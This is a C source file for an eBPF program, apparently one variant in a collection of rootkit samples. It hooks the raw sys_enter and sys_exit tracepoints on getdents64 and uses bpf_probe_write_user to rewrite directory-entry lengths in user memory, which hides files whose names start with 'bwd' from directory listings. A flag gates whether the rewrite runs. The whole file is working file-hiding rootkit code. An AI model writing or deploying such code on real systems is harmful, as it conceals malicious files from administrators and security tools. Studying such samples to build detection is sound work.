// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T01: the same hiding from raw tracepoints, one unrolled loop, no tail call, state in one map of structures.
#include "sample.h"

SAMPLE_SWITCH;
LICENSE;

#define NR_GETDENTS64 217

struct state {
	void *buf;
	u32 hits;
};
HASH(pending, u32, struct state, 512);
const volatile char hidden[8] = "bwdemo";

SEC("raw_tp/sys_enter")
int rt_enter(struct bpf_raw_tracepoint_args *ctx)
{
	struct pt_regs *regs = (void *)ctx->args[0];
	u32 tid = bpf_get_current_pid_tgid();
	struct state st = {};

	if (ctx->args[1] != NR_GETDENTS64)
		return 0;
	st.buf = (void *)BPF_CORE_READ(regs, si);
	bpf_map_update_elem(&pending, &tid, &st, BPF_ANY);
	return 0;
}

SEC("raw_tp/sys_exit")
int rt_exit(struct bpf_raw_tracepoint_args *ctx)
{
	u32 tid = bpf_get_current_pid_tgid();
	struct state *st = bpf_map_lookup_elem(&pending, &tid);
	long left = ctx->args[1];
	u16 prev_len = 0, len;
	void *p, *prev = NULL;
	char name[8];

	if (!st)
		return 0;
	p = st->buf;
#pragma unroll
	for (int i = 0; i < 12; i++) {
		if (left > 0) {
			len = 0;
			bpf_probe_read_user(&len, 2, p + 16);
			bpf_probe_read_user(name, sizeof(name), p + 19);
			if (prev && name[0] == hidden[0] && name[1] == hidden[1] && name[2] == hidden[2]) {
				prev_len += len;
				st->hits++;
				if (sample_armed)
					bpf_probe_write_user(prev + 16, &prev_len, 2);
				left = 0;
			}
			prev = p;
			prev_len = len;
			p += len;
			left -= len;
		}
	}
	bpf_map_delete_elem(&pending, &tid);
	return 0;
}
